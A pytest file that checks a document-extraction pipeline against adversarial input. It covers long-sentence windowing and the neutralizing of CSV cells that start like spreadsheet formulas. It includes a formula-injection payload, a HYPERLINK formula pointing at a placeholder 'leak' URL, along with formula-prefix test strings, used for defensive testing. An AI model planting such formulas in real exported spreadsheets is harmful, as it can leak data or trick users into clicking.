"""Adversarial input through a whole run (issue 20): no blow-up, nothing lost or mixed, one-line errors.

Each test is one shape an adversarial user tried, made small; `make fuzz`
runs the same shapes at full size, timed, in a generated folder. The
cleaning stage's own shapes are in tests/clean/test_hostile_input.py.
"""
from __future__ import annotations

import shutil
from pathlib import Path

import pandas as pd
import pyarrow.parquet as pq
import pytest

import extract
from extract.cells import FORMULA_STARTS, csv_text, read_csv_text
from extract.changes import compare_folders
from extract.evaluate.pairing import load_tables
from extract.pipeline import run
from extract.review.tables import read_table
from extract.tables import SENTENCE_CONTEXT_CHARS, SENTENCE_MAX_CHARS, doc_rows

from .conftest import RAW, RULES

GOOD = "nato-relations-with-iraq"


def raw_folder(tmp_path: Path, files: dict[str, bytes | str], name: str = "raw") -> Path:
    """A RAW folder holding one good text and the given files."""
    raw = tmp_path / name
    raw.mkdir()
    shutil.copy(RAW / f"{GOOD}.txt", raw / f"{GOOD}.txt")
    for relative, data in files.items():
        path = raw / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(data, str):
            path.write_text(data, encoding="utf-8")
        else:
            path.write_bytes(data)
    return raw


def table(out: Path, name: str) -> pd.DataFrame:
    return pd.read_csv(out / f"{name}.csv", dtype=str, keep_default_na=False)


# ---------------------------------------------------------------- rows stay small


def test_a_sentence_longer_than_the_limit_is_a_window_around_the_span(nlp):
    """`1, 1, 1, ...` x 25,000 wrote each 75 KB line once per entity: 1.9 GB of CSV."""
    text = "The fund paid " + ", ".join(["$1 million"] * 300) + " in 2020."
    doc = nlp(extract.make_doc(nlp, text))
    rows = doc_rows(doc, "long")
    assert len(rows["money"]) == 300
    for row in rows["money"] + rows["entities"]:
        assert text[row["char_start"] : row["char_end"]] == row["text"]
        assert row["text"] in row["sentence"]
        assert len(row["sentence"]) <= len(row["text"]) + 2 * SENTENCE_CONTEXT_CHARS + 4
    middle = rows["money"][150]["sentence"]
    assert middle.startswith("… ") and middle.endswith(" …")
    assert middle[2:-2] in text
    assert rows["money"][0]["sentence"].startswith("The fund paid $1 million, ")  # not cut where the sentence starts


def test_a_sentence_within_the_limit_is_kept_whole(nlp):
    text = "In 2020 the fund paid " + ", ".join(["$1 million"] * 20) + " to the army."
    assert len(text) <= SENTENCE_MAX_CHARS
    rows = doc_rows(nlp(extract.make_doc(nlp, text)), "short")
    assert {row["sentence"] for row in rows["money"]} == {text}


# ---------------------------------------------------------------- spreadsheets run no cell


FORMULA = '=HYPERLINK("http://x.example/?leak","click")'


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "'=1", "''+x", "'plain", "plain", "", "a=b"],
)
def test_csv_text_reads_back_exactly(text):
    cell = csv_text(text)
    assert cell is not None and read_csv_text(cell) == text
    assert not cell.startswith(FORMULA_STARTS)


def test_csv_cells_that_start_like_a_formula_are_neutralized_and_parquet_keeps_them(tmp_path):
    raw = raw_folder(tmp_path, {"-report.txt": f"{FORMULA}\n\nThe fund paid $5 million in 2020.\n"})
    out = tmp_path / "out"
    run(raw, out, RULES, cache=False)
    documents = table(out, "documents").set_index("path")
    assert documents.loc["'-report.txt"].title == f"'{FORMULA}"
    assert documents.loc["'-report.txt"].doc_id == "'-report"
    exact = pq.read_table(out / "documents.parquet").to_pandas().set_index("path")
    assert exact.loc["-report.txt"].title == FORMULA and exact.loc["-report.txt"].doc_id == "-report"
    assert "-report" in load_tables(out).clean  # the evaluation reads the exact doc_id back
    review = read_table(out / "documents.csv", "documents")
    assert FORMULA in {row[review.columns.index("title")] for row in review.rows}  # so does the review page


def test_the_changes_table_holds_the_exact_text_once(tmp_path):
    """Changes are read from the CSV files: a neutralized cell must not be neutralized twice."""
    raw = raw_folder(tmp_path, {"-report.txt": f"{FORMULA}\n\nThe fund paid $5 million in 2020.\n"})
    run(raw, tmp_path / "before", RULES, cache=False)
    (raw / "-report.txt").write_text(f"{FORMULA} again\n\nThe fund paid $5 million in 2020.\n", encoding="utf-8")
    run(raw, tmp_path / "after", RULES, cache=False)
    changed = [row for row in compare_folders(tmp_path / "before", tmp_path / "after").rows if row["table"] == "documents"]
    assert [(row["doc_id"], row["before"], row["after"]) for row in changed] == [
        ("-report", f"title={FORMULA}", f"title={FORMULA} again")
    ]
